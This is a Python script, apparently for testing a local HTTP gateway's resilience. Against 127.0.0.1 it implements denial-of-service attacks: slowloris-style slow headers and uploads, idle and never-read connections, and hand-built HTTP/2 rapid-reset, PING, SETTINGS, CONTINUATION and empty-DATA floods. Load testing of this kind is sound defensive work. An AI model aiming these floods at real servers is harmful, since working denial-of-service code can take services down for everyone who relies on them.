"""Attackers that slowhttptest does not have, one for each run:

    attack.py NAME PORT SECONDS

Ends by itself after SECONDS, and prints what became of its connections as one line of JSON.
"""

import asyncio
import json
import socket
import sys
import time

HOST = "127.0.0.1"
GET = b"GET /api/v1/documents HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
BIG = b"GET /api/v1/big HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
POST = b"POST /api/v1/documents HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: text/plain\r\nContent-Length: 100000\r\n\r\n"


class Crowd:
    """Connections that one attack opens, and when the gateway ended them."""

    def __init__(self, port, seconds):
        self.port, self.until = port, time.monotonic() + seconds
        self.opened, self.failed, self.ended, self.sent = 0, 0, [], 0

    def left(self):
        return max(0.0, self.until - time.monotonic())

    async def connect(self):
        try:
            reader, writer = await asyncio.open_connection(HOST, self.port)
        except OSError:
            self.failed += 1
            return None
        self.opened += 1
        return reader, writer

    async def until_ended(self, reader, since):
        """Reads until the gateway ends the connection, or the attack is over."""
        try:
            while await asyncio.wait_for(reader.read(65536), self.left()):
                pass
        except TimeoutError:
            return
        except OSError:
            pass
        self.ended.append(time.monotonic() - since)

    async def hold(self, first, each=b"", every=1.0):
        """Sends `first`, then `each` again and again, and waits for the end."""
        if (pair := await self.connect()) is None:
            return
        reader, writer = pair
        since = time.monotonic()

        async def feed():
            while each:
                await asyncio.sleep(every)
                writer.write(each)

        feeding = asyncio.create_task(feed())
        try:
            writer.write(first)
            await self.until_ended(reader, since)
        finally:
            feeding.cancel()
            writer.transport.abort()

    async def at_rate(self, count, rate, go):
        """`count` times `go()`, `rate` in a second, all at the same time."""
        start, tasks = time.monotonic(), []
        for nth in range(count):
            await asyncio.sleep(max(0, start + nth / rate - time.monotonic()))
            tasks.append(asyncio.create_task(go()))
        await asyncio.gather(*tasks, return_exceptions=True)

    async def never_read(self):
        """Asks for 10 MB and reads none of it; what became of it only the gateway knows."""
        one = socket.socket()
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        one.setblocking(False)
        loop = asyncio.get_running_loop()
        with one:
            await loop.sock_connect(one, (HOST, self.port))
            self.opened += 1
            await loop.sock_sendall(one, BIG)
            await asyncio.sleep(self.left())

    def said(self):
        ends = sorted(self.ended)
        said = {"opened": self.opened, "failed": self.failed, "ended": len(ends), "sent": self.sent}
        return said | ({"first_end": ends[0], "last_end": ends[-1]} if ends else {})


# --- HTTP/2, by hand ------------------------------------------------------------------------------

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def name_and_value(index, value):
    return bytes([index, len(value)]) + value


# Indexed: GET or POST, http. Literal: the path (4) and the authority (1).
ASK = b"\x86" + name_and_value(4, b"/api/v1/documents") + name_and_value(1, b"127.0.0.1")
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)


def rapid_reset():
    """Asks and takes it back, on stream after stream."""
    for stream in range(1, 2**31, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, b"\x82" + ASK) + frame(RST_STREAM, 0, stream, bytes([0, 0, 0, 8]))


def pings():
    while True:
        yield frame(PING, 0, 0, bytes(8))


def settings():
    while True:
        yield frame(SETTINGS, 0, 0, bytes([0, 4, 0, 1, 0, 0]))


def continuation():
    """A head that never ends."""
    field = b"\x00\x03x-a" + bytes([100]) + b"a" * 100
    yield frame(HEADERS, 0, 1, b"\x82" + ASK)
    while True:
        yield frame(CONTINUATION, 0, 1, field * 10)


def empty_data():
    """A body of nothing, frame after frame."""
    yield frame(HEADERS, END_HEADERS, 1, b"\x83" + ASK)
    while True:
        yield frame(DATA, 0, 1)


async def flood(crowd, frames, rate, connections=20):
    """`frames` over and over, `rate` in a second over all connections; those that are ended are replaced."""

    async def one():
        while crowd.left() > 0:
            if (pair := await crowd.connect()) is None:
                return
            reader, writer = pair
            since = time.monotonic()
            ending = asyncio.create_task(crowd.until_ended(reader, since))
            try:
                writer.write(PREFACE)
                for nth, some in enumerate(frames()):
                    if ending.done():
                        break
                    writer.write(some)
                    crowd.sent += 1
                    if nth % 10 == 9:
                        await writer.drain()
                        due = since + nth * connections / rate
                        await asyncio.sleep(max(0, due - time.monotonic()))
            except OSError:
                pass
            await ending
            writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(connections)))


# --- Each by its name -----------------------------------------------------------------------------

ATTACKS = {
    "half-open-heads": lambda c: c.at_rate(5000, 1000, lambda: c.hold(GET[:-4] + b"X")),
    "silent": lambda c: c.at_rate(5000, 1000, lambda: c.hold(b"")),
    "idle": lambda c: c.at_rate(10000, 1000, lambda: c.hold(GET)),
    "never-read": lambda c: c.at_rate(100, 50, c.never_read),
    "slow-uploads": lambda c: c.at_rate(500, 100, lambda: c.hold(POST, b"x")),
    "h2-rapid-reset": lambda c: flood(c, rapid_reset, 1000),
    "h2-ping": lambda c: flood(c, pings, 5000),
    "h2-settings": lambda c: flood(c, settings, 5000),
    "h2-continuation": lambda c: flood(c, continuation, 2000),
    "h2-empty-data": lambda c: flood(c, empty_data, 5000),
    "more-than-files": lambda c: c.at_rate(200, 200, lambda: c.hold(b"")),
}


async def main():
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    crowd = Crowd(port, seconds)
    try:
        # Nothing outlives the attack: a hold ends with it, a flood soon after.
        await asyncio.wait_for(ATTACKS[name](crowd), seconds + 5)
    except TimeoutError:
        pass
    print(json.dumps(crowd.said()), flush=True)


if __name__ == "__main__":
    asyncio.run(main())
